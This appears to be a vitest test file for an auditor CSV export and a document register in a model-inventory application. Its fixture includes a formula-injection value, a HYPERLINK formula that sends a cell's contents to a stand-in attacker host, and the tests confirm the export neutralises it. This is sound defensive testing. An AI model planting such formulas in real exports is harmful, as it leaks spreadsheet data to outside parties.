import { beforeAll, expect, it } from "vitest";
import { issuePortfolioReport } from "@/lib/services/documents/issue-portfolio-report";
import { issueTechnicalDocumentation } from "@/lib/services/documents/issue-technical-documentation";
import { documentableVersions, listIssuedDocuments, ZIssuedDocumentsQuerySchema } from "@/lib/services/documents/queries";
import { Forbidden } from "@/lib/services/errors";
import { createModel } from "@/lib/services/models/create-model";
import { exportInventory, INVENTORY_CSV_COLUMNS } from "@/lib/services/reports/export-inventory";
import { eventsSince, headSeq, rejection, seedOrganisation, type Organisation } from "../helpers/fixtures";
import { forEachDatabase } from "../helpers/test-db";

/** RFC 4180 read back: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(cell), (cell = "");
    else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell), rows.push(row), (row = []), (cell = "");
      i++;
    } else cell += c;
  }
  expect(cell, "the file ends with CRLF").toBe("");
  return rows;
}

async function collect(lines: AsyncGenerator<string>): Promise<string> {
  let text = "";
  for await (const line of lines) text += line;
  return text;
}

const HOSTILE = {
  name: '=HYPERLINK("https://evil.example/?x="&A1, "click")',
  purpose: 'Scores applicants, then "flags" them\nfor review, by hand',
  businessUnit: "-Retail",
  tags: ["@risk", "+plus", "plain"],
};

forEachDatabase("auditor exports", (t) => {
  let org: Organisation;

  beforeAll(async () => {
    org = await seedOrganisation(t.db);
    await createModel(org.owner, { ...HOSTILE, ownerEmail: org.owner.actor.email });
  });

  it("exports the inventory as RFC 4180 CSV, one row per model with its versions, formulas defused", async () => {
    const { lines } = await exportInventory(org.auditor);
    const text = await collect(lines);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...INVENTORY_CSV_COLUMNS]);
    const records = rows.slice(1).map((r) => Object.fromEntries(INVENTORY_CSV_COLUMNS.map((c, i) => [c, r[i]])));
    expect(records.every((r) => Object.keys(r).length === INVENTORY_CSV_COLUMNS.length)).toBe(true);
    expect(records).toHaveLength(6);
    expect(records.map((r) => r.slug).sort()).toEqual(["branch-cash-demand-forecast", "card-fraud-detection", "customer-service-assistant", "cv-screening-assistant", expect.stringMatching(/^hyperlink/), "retail-credit-scoring"]);
    const fraud = records.find((r) => r.slug === "card-fraud-detection")!;
    expect(fraud).toMatchObject({ name: "Card fraud detection", owner_email: "owner@attest.demo", risk_tier: "unclassified", versions: "2", latest_version: "4.2.0", latest_stage: "draft" });

    const hostile = records.find((r) => r.slug!.startsWith("hyperlink"))!;
    // A spreadsheet shows these cells as text: the formula characters are prefixed with '.
    expect(hostile.name).toBe(`'${HOSTILE.name}`);
    expect(hostile.business_unit).toBe("'-Retail");
    expect(hostile.tags).toBe("'@risk;+plus;plain");
    // Commas, quotes and line breaks survive quoting.
    expect(hostile.purpose).toBe(HOSTILE.purpose);
    expect(text).toContain('"Scores applicants, then ""flags"" them\nfor review, by hand"');
    expect(text).not.toMatch(/(^|,)[=+\-@]/m);
  });

  it("records the download in the audit log before the first byte, with the number of models", async () => {
    const before = await headSeq(t.db);
    const { exportEvent, lines } = await exportInventory(org.auditor);
    const events = await eventsSince(t.db, before);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ seq: exportEvent.seq, action: "report.inventory_exported", entityType: "model_inventory", entityId: null, actorEmail: org.auditor.actor.email, data: { format: "csv", count: 6 } });
    expect(parseCsv(await collect(lines))).toHaveLength(7);
  });

  it("leaves out models registered after the export was recorded, so the file matches the recorded count", async () => {
    const { exportEvent, lines } = await exportInventory(org.auditor);
    await createModel(org.owner, { name: "Registered during the download", ownerEmail: org.owner.actor.email });
    const rows = parseCsv(await collect(lines));
    expect(rows.slice(1).map((r) => r[0])).not.toContain("registered-during-the-download");
    expect(rows).toHaveLength((exportEvent.data as { count: number }).count + 1);
  });

  it("refuses a token without the reports:read scope and writes nothing", async () => {
    const before = await headSeq(t.db);
    const scoped = { ...org.auditor, actor: { ...org.auditor.actor, token: { id: "tok", scopes: ["audit:read" as const] } } };
    expect(await rejection(exportInventory(scoped))).toBeInstanceOf(Forbidden);
    expect(await headSeq(t.db)).toBe(before);
  });

  it("lists issued documents newest first, paginated, filtered by model or kind", async () => {
    const portfolio = await issuePortfolioReport(org.auditor);
    const first = await issueTechnicalDocumentation(org.officer, { slug: "retail-credit-scoring", version: "2.3.0" });
    const second = await issueTechnicalDocumentation(org.auditor, { slug: "card-fraud-detection", version: "4.2.0" });

    const all = await listIssuedDocuments(t.db, ZIssuedDocumentsQuerySchema.parse({}));
    expect(all.total).toBe(3);
    expect(all.documents.map((d) => d.documentId)).toEqual([second.document.id, first.document.id, portfolio.document.id]);
    expect(all.documents[0]).toEqual({
      documentId: second.document.id,
      kind: "technical_documentation",
      model: "card-fraud-detection",
      version: "4.2.0",
      sha256: second.document.sha256,
      sizeBytes: second.bytes.length,
      issuedAt: second.document.issuedAt.toISOString(),
      issuedBy: org.auditor.actor.email,
      auditSeq: second.document.auditSeq,
    });

    const page2 = await listIssuedDocuments(t.db, ZIssuedDocumentsQuerySchema.parse({ page: "2", pageSize: "2" }));
    expect(page2).toMatchObject({ total: 3, page: 2, pageSize: 2 });
    expect(page2.documents.map((d) => d.documentId)).toEqual([portfolio.document.id]);

    const byModel = await listIssuedDocuments(t.db, ZIssuedDocumentsQuerySchema.parse({ model: "Retail-Credit-Scoring" }));
    expect(byModel.documents.map((d) => [d.documentId, d.issuedBy])).toEqual([[first.document.id, org.officer.actor.email]]);
    const byKind = await listIssuedDocuments(t.db, ZIssuedDocumentsQuerySchema.parse({ kind: "portfolio", model: "" }));
    expect(byKind.documents.map((d) => d.kind)).toEqual(["portfolio"]);
  });

  it("finds the versions whose documentation an auditor can download, by model or version, with when it was last issued", async () => {
    const fraud = await documentableVersions(t.db, { search: "fraud", page: 1, pageSize: 10 });
    expect(fraud.total).toBe(2);
    expect(fraud.versions.map((v) => [v.slug, v.version])).toEqual([["card-fraud-detection", "4.2.0"], ["card-fraud-detection", "4.1.0"]]);
    // Issued in the previous test; never for 4.1.0.
    expect(fraud.versions[0]!.lastIssuedAt).toBeInstanceOf(Date);
    expect(fraud.versions[1]!.lastIssuedAt).toBeNull();
    expect((await documentableVersions(t.db, { search: "2.3.0", page: 1, pageSize: 10 })).versions.map((v) => v.slug)).toEqual(["retail-credit-scoring"]);
    // LIKE wildcards are text: "_" matches only an underscore.
    expect((await documentableVersions(t.db, { search: "_", page: 1, pageSize: 10 })).total).toBe(0);
    const all = await documentableVersions(t.db, { page: 2, pageSize: 4 });
    expect(all.total).toBe(6);
    expect(all.versions).toHaveLength(2);
  });

  it("rejects register parameters out of range", () => {
    expect(ZIssuedDocumentsQuerySchema.safeParse({ pageSize: "500" }).success).toBe(false);
    expect(ZIssuedDocumentsQuerySchema.safeParse({ kind: "invoice" }).success).toBe(false);
    expect(ZIssuedDocumentsQuerySchema.safeParse({ page: "0" }).success).toBe(false);
  });
});
